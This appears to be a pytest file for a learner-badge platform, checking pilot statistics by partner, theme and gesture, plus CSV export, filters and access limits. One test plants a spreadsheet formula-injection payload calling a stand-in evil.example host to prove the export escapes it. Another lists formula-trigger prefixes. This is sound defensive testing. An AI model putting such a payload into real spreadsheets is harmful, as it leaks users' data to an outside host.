"""Pilot statistics on a small known dataset: two partners, four learners assessed."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest

from issuer.services import PermissionDenied, stats, unit_of_work
from issuer.services.claims import bind_to_holder
from issuer.services.consent import Consent
from issuer.services.exports import spreadsheet_cell
from issuer.services.issuing import save_assessment
from issuer.services.learners import create_learner
from issuer.services.revocation import revoke
from tests.helpers import ONE_NOT_YET, evaluate, issue, make_coordinator, make_world


@pytest.fixture
def pilot(db, world):
    """AGFE: two badges (one revoked), one learner not yet, one enrolled but not evaluated.
    BARKA: one badge."""
    first = issue(db, world, world.learners[0])
    issue(db, world, world.learners[1])
    with unit_of_work(db):
        revoke(db, first, "Issued to the wrong person", world.admin)
        chloe = create_learner(db, world.org, "Chloé Martin", answers=Consent.everything())
        waiting = create_learner(db, world.org, "Dan Waiting", answers=Consent.everything())
    evaluate(db, world, chloe, levels=ONE_NOT_YET)
    with unit_of_work(db):
        save_assessment(db, world.session.id, waiting.id, {}, {}, None, world.trainer)
    other = make_world(db, slug="barka", learner_names=("Jan Kowalski",))
    with unit_of_work(db):
        other.org.name = "BARKA"
    issue(db, other, other.learners[0])
    return world, other


def rows(tallies):
    return [(t.key, t.label, t.assessed, t.issued, t.revoked, t.not_yet_acquired)
            for t in tallies]


def test_counts_per_partner(db, pilot):
    assert rows(stats.pilot_statistics(db).partner) == [
        ("agfe", "AGFE", 3, 2, 1, 1),
        ("barka", "BARKA", 1, 1, 0, 0),
    ]


def test_counts_per_theme_and_micro_training(db, pilot):
    statistics = stats.pilot_statistics(db)
    assert rows(statistics.theme) == [("green-jobs", "Green jobs", 4, 3, 1, 1)]
    french = stats.pilot_statistics(db, "fr").theme
    assert [(t.key, t.label) for t in french] == [("green-jobs", "Métiers verts")]
    assert rows(statistics.micro_training) == [
        ("tree-planting", "Planting a young tree", 4, 3, 1, 1)]


def test_counts_per_gesture(db, pilot):
    gestures = [(g.training_id, g.gesture_id, g.label, g.acquired, g.not_yet_acquired)
                for g in stats.pilot_statistics(db).gesture]
    assert gestures == [
        ("tree-planting", "dig-hole", "Dig the planting hole", 4, 0),
        ("tree-planting", "stake-and-water", "Stake and water the tree", 3, 1),
    ]


def test_a_wallet_copy_is_not_counted_again(db, world):
    credential = issue(db, world, world.learners[0])
    with unit_of_work(db):
        bind_to_holder(db, credential, "did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK")
    assert rows(stats.pilot_statistics(db).partner) == [("agfe", "AGFE", 1, 1, 0, 0)]


def test_names_are_given_in_the_language_asked_for(db, pilot):
    statistics = stats.pilot_statistics(db, language="fr")
    assert statistics.micro_training[0].label == "Planter un jeune arbre"
    assert statistics.gesture[0].label == "Creuser le trou de plantation"


def test_no_data_gives_empty_tables(db):
    assert stats.pilot_statistics(db) == stats.PilotStatistics([], [], [], [])


def test_partner_csv_export(db, pilot):
    assert stats.to_csv(stats.pilot_statistics(db), "partner") == (
        "partner,name,assessed,issued,revoked,not_yet_acquired\r\n"
        "agfe,AGFE,3,2,1,1\r\n"
        "barka,BARKA,1,1,0,0\r\n")


def test_gesture_csv_export(db, pilot):
    assert stats.to_csv(stats.pilot_statistics(db), "gesture") == (
        "micro_training,gesture,name,acquired,not_yet_acquired\r\n"
        "tree-planting,dig-hole,Dig the planting hole,4,0\r\n"
        "tree-planting,stake-and-water,Stake and water the tree,3,1\r\n")


def test_csv_export_cannot_carry_a_formula_from_another_organisations_name(db, pilot):
    _world, other = pilot
    with unit_of_work(db):
        other.org.name = '=HYPERLINK("https://evil.example/?"&A1,"BARKA")'
    text = stats.to_csv(stats.pilot_statistics(db), "partner")
    assert text.splitlines()[2] == (
        'barka,"\'=HYPERLINK(""https://evil.example/?""&A1,""BARKA"")",1,1,0,0')


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1d1"])
def test_spreadsheet_cells_that_would_run_are_made_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Planting a young tree", "Łódź", 42, 0, "a=b", ""])
def test_ordinary_cells_and_numbers_are_written_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_unknown_table_is_refused(db):
    with pytest.raises(ValueError, match="unknown statistics table 'learner'"):
        stats.to_csv(stats.pilot_statistics(db), "learner")


# --- period and filters ------------------------------------------------------------------------


def partner_rows(db, **where):
    return rows(stats.pilot_statistics(db, where=stats.StatsFilter(**where)).partner)


def test_the_period_counts_sessions_by_their_first_day_and_badges_by_their_day_of_issue(db, world):
    issue(db, world, world.learners[0], now=datetime(2026, 3, 2, 12, 0, tzinfo=UTC))
    issue(db, world, world.learners[1], now=datetime(2026, 4, 1, 9, 0, tzinfo=UTC))
    assert partner_rows(db, start=date(2026, 3, 1), end=date(2026, 3, 31)) == [
        ("agfe", "AGFE", 2, 1, 0, 0)]
    assert partner_rows(db, start=date(2026, 4, 1), end=date(2026, 4, 1)) == [
        ("agfe", "AGFE", 0, 1, 0, 0)]
    assert partner_rows(db, end=date(2026, 3, 1)) == []


def test_filters_by_partner_training_theme_trainer_and_language(db, pilot):
    world, _other = pilot
    assert partner_rows(db, partner="barka") == [("barka", "BARKA", 1, 1, 0, 0)]
    assert partner_rows(db, training="tree-planting", theme="green-jobs") == rows(
        stats.pilot_statistics(db).partner)
    assert partner_rows(db, theme="digital") == []
    assert partner_rows(db, trainer=world.trainer.id) == [("agfe", "AGFE", 3, 2, 1, 1)]
    assert partner_rows(db, language="fr") == rows(stats.pilot_statistics(db).partner)
    assert partner_rows(db, language="pl") == []


def test_a_partner_admin_is_held_to_their_own_organisation(db, pilot):
    world, _other = pilot
    assert stats.parse_filter(db, {}, world.admin).partner == "agfe"
    with pytest.raises(PermissionDenied):
        stats.parse_filter(db, {"partner": "barka"}, world.admin)


def test_the_coordinator_may_pick_any_partner_or_none(db, pilot):
    coordinator = make_coordinator(db)
    assert stats.parse_filter(db, {}, coordinator).partner is None
    assert stats.parse_filter(db, {"partner": "barka"}, coordinator).partner == "barka"
    assert stats.filter_choices(db, coordinator).partners == [
        ("agfe", "AGFE"), ("barka", "BARKA"), ("cec", "CEC")]


@pytest.mark.parametrize(("args", "message"), [
    ({"from": "2026-13-01"}, "“2026-13-01” is not a date (YYYY-MM-DD) for “from”."),
    ({"from": "2026-05-01", "to": "2026-04-01"}, "The period ends before it starts."),
    ({"theme": "piracy"}, "“piracy” is not a known theme."),
    ({"training": "nothing"}, "“nothing” is not a known training."),
    ({"trainer": "999999"}, "“999999” is not a known trainer."),
    ({"language": "xx"}, "“xx” is not a known language."),
    ({"theme": "x" * 101}, "The filter “theme” is too long."),
])
def test_a_bad_filter_is_refused_with_a_message(db, pilot, args, message):
    with pytest.raises(stats.InvalidFilter) as raised:
        stats.parse_filter(db, args, pilot[0].admin)
    assert str(raised.value) == message


def test_a_coordinator_asking_for_an_unknown_partner_is_told(db, pilot):
    with pytest.raises(stats.InvalidFilter, match="There is no partner “nobody”."):
        stats.parse_filter(db, {"partner": "nobody"}, make_coordinator(db))
